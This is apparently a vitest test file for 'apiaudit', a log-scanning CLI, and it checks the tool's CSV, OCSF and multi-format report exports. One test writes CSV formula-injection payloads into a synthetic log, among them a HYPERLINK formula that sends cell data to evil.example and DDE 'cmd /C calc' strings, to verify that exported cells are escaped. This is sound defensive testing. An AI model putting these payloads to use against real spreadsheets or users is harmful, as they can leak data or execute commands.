// The other outputs: CSV (per finding, per evidence event, safe to open in a spreadsheet), OCSF
// Detection Finding JSON lines, and several formats in one run with -o DIR.
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { parseString } from 'fast-csv';
import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import { protectCell } from '../src/report/csv.js';
import type { ReportV1 } from '../src/report/index.js';
import { runCli } from './support/cli.js';

const SAMPLES = ['scan', 'samples/', '--config', 'samples/apiaudit.yml', '-q'];
const dir = mkdtempSync(path.join(tmpdir(), 'apiaudit-export-'));

function parseCsv(text: string): Promise<Array<Record<string, string>>> {
  return new Promise((resolve, reject) => {
    const rows: Array<Record<string, string>> = [];
    parseString(text, { headers: true, strictColumnHandling: true })
      .on('error', reject)
      .on('data', (row: Record<string, string>) => rows.push(row))
      .on('end', () => resolve(rows));
  });
}

const samplesReport = async (): Promise<ReportV1> => JSON.parse((await runCli(SAMPLES)).stdout);
/** What a finding is keyed on: the fingerprint, the principal or the client IP. */
const subjectOf = (f: ReportV1['findings'][number]) =>
  f.subject.kind === 'credential' ? f.subject.credential_fingerprint : f.subject.kind === 'principal' ? f.subject.principal : f.subject.client_ip;
/** CSV writes an absent value as an empty cell. */
const cell = (v: string | null) => v ?? '';

describe('-f csv', async () => {
  const report = await samplesReport();

  it('writes one row per finding with the JSON report\'s values', async () => {
    const r = await runCli([...SAMPLES, '-f', 'csv']);
    expect(r.code).toBe(0);
    expect(r.stdout.split('\n')[0]).toBe(
      'finding_id,rule_id,severity,title,message,subject_kind,subject,credential_fingerprint,principal,client_ip,client_ips,user_agents,first_seen,last_seen,event_count,distinct_paths,details,owasp,attack,remediation,references',
    );
    const rows = await parseCsv(r.stdout);
    expect(rows).toHaveLength(report.findings.length);
    rows.forEach((row, i) => {
      const f = report.findings[i]!;
      expect(row).toMatchObject({
        finding_id: f.id,
        rule_id: f.rule_id,
        severity: f.severity,
        title: f.title,
        message: f.message,
        subject_kind: f.subject.kind,
        subject: subjectOf(f),
        credential_fingerprint: cell(f.subject.credential_fingerprint),
        principal: cell(f.subject.principal),
        client_ips: f.subject.client_ips.join('\n'),
        user_agents: f.subject.user_agents.join('\n'),
        first_seen: f.first_seen,
        last_seen: f.last_seen,
        event_count: String(f.event_count),
        owasp: f.tags.owasp.join('\n'),
        attack: f.tags.attack.join('\n'),
        references: f.references.join('\n'),
      });
    });
  });

  it('--evidence writes one row per evidence event', async () => {
    const r = await runCli([...SAMPLES, '-f', 'csv', '--evidence']);
    const rows = await parseCsv(r.stdout);
    const evidence = report.findings.flatMap((f) => f.evidence.map((e) => ({ f, e })));
    expect(rows).toHaveLength(evidence.length);
    // 16 findings on the samples; rate-anomaly's 660 events are cut to the first 20
    expect(rows.length).toBe(6 + 3 + 14 + 15 + 12 + 18 + 15 + 2 + 6 + 6 + 6 + 2 + 12 + 20 + 14 + 14);
    rows.forEach((row, i) => {
      const { f, e } = evidence[i]!;
      expect(row).toEqual({
        finding_id: f.id, rule_id: f.rule_id, severity: f.severity, subject_kind: f.subject.kind,
        subject: subjectOf(f), principal: cell(f.subject.principal), file: e.file, line: String(e.line),
        ts: e.ts, method: e.method, path: e.path, query: e.query ?? '', status: String(e.status), client_ip: e.client_ip,
        user_agent: e.user_agent,
      });
    });
  });

  it('an empty result is a header row alone', async () => {
    const log = path.join(dir, 'quiet.log');
    writeFileSync(log, '198.51.100.7 - - [30/Nov/2026:10:00:00 +0000] "GET /health HTTP/1.1" 200 2 "-" "probe/1"\n');
    const r = await runCli(['scan', log, '-f', 'csv', '--evidence']);
    expect(r.stdout).toBe('finding_id,rule_id,severity,subject_kind,subject,principal,file,line,ts,method,path,query,status,client_ip,user_agent\n');
  });
});

describe('CSV cells are protected against formula injection', () => {
  it('prefixes a quote to cells starting with = + - @ tab CR LF (and their full-width forms)', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']) {
      expect(protectCell(`${start}1+1`), JSON.stringify(start)).toBe(`'${start}1+1`);
    }
    for (const safe of ['1+1', 'a=b', ' x', "'quoted", '/api/x', 'Mozilla/5.0', '']) expect(protectCell(safe)).toBe(safe);
  });

  it('in user agents, query strings and user names of a scanned log', async () => {
    const payloads = {
      ua: `=HYPERLINK("http://evil.example/?"&A1,"open me")`,
      ua2: '+cmd|\' /C calc\'!A0',
      ua3: '-2+3+cmd|\' /C calc\'!A0',
      ua4: '@SUM(1+1)*cmd|\' /C calc\'!A0',
      user: "=cmd|'/C%20calc'!A0",
      query: '=1+1',
    };
    const esc = (s: string) => s.replace(/"/g, '\\x22');
    const lines = Array.from({ length: 12 }, (_, i) =>
      `203.0.113.5 - ${esc(payloads.user)} [30/Nov/2026:10:${String(i).padStart(2, '0')}:00 +0000] "GET /api/Orders/${i * 7}?${payloads.query} HTTP/1.1" 403 9 "-" "${esc(Object.values(payloads)[i % 4]!)}"`,
    );
    const log = path.join(dir, 'formulas.log');
    writeFileSync(log, `${lines.join('\n')}\n`);
    const [perFinding, perEvidence] = await Promise.all([runCli(['scan', log, '-f', 'csv', '-q']), runCli(['scan', log, '-f', 'csv', '--evidence', '-q'])]);
    const findings = await parseCsv(perFinding.stdout);
    const evidence = await parseCsv(perEvidence.stdout);
    expect(findings).toHaveLength(1);
    expect(evidence).toHaveLength(12);
    const cells = [...findings, ...evidence].flatMap((row) => Object.values(row));
    for (const cell of cells) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(findings[0]!.principal).toBe(`'${payloads.user}`);
    expect(findings[0]!.user_agents.split('\n').sort()).toEqual([payloads.ua, payloads.ua2, payloads.ua3, payloads.ua4].map((p) => `'${p}`).sort());
    expect(evidence.map((e) => e.query)).toEqual(Array(12).fill(`'${payloads.query}`));
    expect(evidence[0]!.user_agent).toBe(`'${payloads.ua}`);
  });
});

// OCSF 1.3.0, Detection Finding (class 2004, category Findings): the attributes the schema marks
// "required" for the class (base event + finding) and its objects, and the enums apiaudit uses.
const Timestamp = z.number().int().positive();
const OcsfDetectionFinding = z.object({
  activity_id: z.literal(1),
  category_uid: z.literal(2),
  class_uid: z.literal(2004),
  type_uid: z.literal(200401),
  severity_id: z.union([z.literal(1), z.literal(2), z.literal(3), z.literal(4), z.literal(5)]),
  time: Timestamp,
  metadata: z.object({
    version: z.literal('1.3.0'),
    product: z.object({ name: z.string().min(1), vendor_name: z.string().min(1) }),
  }),
  finding_info: z.object({ uid: z.string().min(1), title: z.string().min(1) }),
});

describe('-f ocsf', async () => {
  const out = path.join(dir, 'ocsf');
  const r = await runCli([...SAMPLES, '-f', 'json', '-f', 'ocsf', '-o', out]);
  const report: ReportV1 = JSON.parse(readFileSync(path.join(out, 'report.json'), 'utf8'));
  const text = readFileSync(path.join(out, 'report.ocsf.jsonl'), 'utf8');
  const events = text.trimEnd().split('\n').map((l) => JSON.parse(l));

  it('writes one OCSF 1.3.0 Detection Finding per line with every required attribute', () => {
    expect(r.code).toBe(0);
    expect(text.endsWith('\n')).toBe(true);
    expect(events).toHaveLength(report.findings.length);
    for (const event of events) {
      const result = OcsfDetectionFinding.safeParse(event);
      expect(result.success, JSON.stringify(result.error?.issues)).toBe(true);
    }
  });

  it('maps each finding: id, rule, severity, times, message, subject and evidence', () => {
    const severityIds = { info: 1, low: 2, medium: 3, high: 4, critical: 5 };
    events.forEach((event, i) => {
      const f = report.findings[i]!;
      expect(event).toMatchObject({
        severity_id: severityIds[f.severity],
        message: f.message,
        time: Date.parse(report.generated_at),
        start_time: Date.parse(f.first_seen),
        end_time: Date.parse(f.last_seen),
        count: f.event_count,
        finding_info: {
          uid: f.id,
          title: f.title,
          analytic: { uid: f.rule_id, type_id: 1 },
          first_seen_time: Date.parse(f.first_seen),
          last_seen_time: Date.parse(f.last_seen),
          attacks: f.tags.attack.map((uid) => ({ technique: { uid } })),
        },
        remediation: { desc: f.remediation, references: f.references },
        unmapped: { rule_id: f.rule_id, credential_fingerprint: f.subject.credential_fingerprint, owasp: f.tags.owasp },
      });
      expect(event.evidences).toHaveLength(f.evidence.length);
      expect(event.evidences[0]).toMatchObject({ src_endpoint: { ip: f.evidence[0]!.client_ip }, url: { path: f.evidence[0]!.path } });
      expect(event.observables).toEqual(expect.arrayContaining([
        ...(f.subject.credential_fingerprint ? [{ name: 'unmapped.credential_fingerprint', type_id: 8, value: f.subject.credential_fingerprint }] : []),
        ...(f.subject.principal ? [{ name: 'evidences.actor.user.name', type_id: 4, value: f.subject.principal }] : []),
      ]));
    });
  });
});

describe('several formats at once', () => {
  it('-f html -f json -f csv -f ocsf -o DIR writes each into DIR, creating it', async () => {
    const out = path.join(dir, 'nested', 'reports');
    const r = await runCli([...SAMPLES, '-f', 'html', '-f', 'json', '-f', 'csv', '-f', 'ocsf', '-o', out]);
    expect(r.code).toBe(0);
    expect(r.stdout).toBe('');
    expect(readdirSync(out).sort()).toEqual(['report.csv', 'report.html', 'report.json', 'report.ocsf.jsonl']);
    const json = JSON.parse(readFileSync(path.join(out, 'report.json'), 'utf8'));
    const stdout = await samplesReport();
    expect({ ...json, generated_at: null }).toEqual({ ...stdout, generated_at: null });
    expect(readFileSync(path.join(out, 'report.html'), 'utf8')).toMatch(/^<!doctype html>/);
    expect(readFileSync(path.join(out, 'report.ocsf.jsonl'), 'utf8').trimEnd().split('\n')).toHaveLength(16);
  });

  it('-f json -o FILE still writes exactly that file; -o with a folder writes report.json into it', async () => {
    const file = path.join(dir, 'cron.json');
    expect((await runCli([...SAMPLES, '-f', 'json', '-o', file])).code).toBe(0);
    expect(JSON.parse(readFileSync(file, 'utf8'))).toMatchObject({ schema_version: 1, summary: { findings: 16 } });
    const folder = path.join(dir, 'existing');
    mkdirSync(folder);
    expect((await runCli([...SAMPLES, '-o', folder])).code).toBe(0);
    expect(readdirSync(folder)).toEqual(['report.json']);
  });

  it('usage errors exit 2 before scanning: several formats without -o, --evidence without csv', async () => {
    const several = await runCli([...SAMPLES, '-f', 'html', '-f', 'json']);
    expect(several).toEqual({
      code: 2,
      stdout: '',
      stderr: 'apiaudit: several formats (html, json) need -o DIR, a folder to write report.html, report.json into\n',
    });
    const evidence = await runCli([...SAMPLES, '-f', 'json', '--evidence', '-o', path.join(dir, 'never')]);
    expect(evidence).toEqual({ code: 2, stdout: '', stderr: 'apiaudit: --evidence applies to -f csv\n' });
    expect(existsSync(path.join(dir, 'never'))).toBe(false);
  });
});
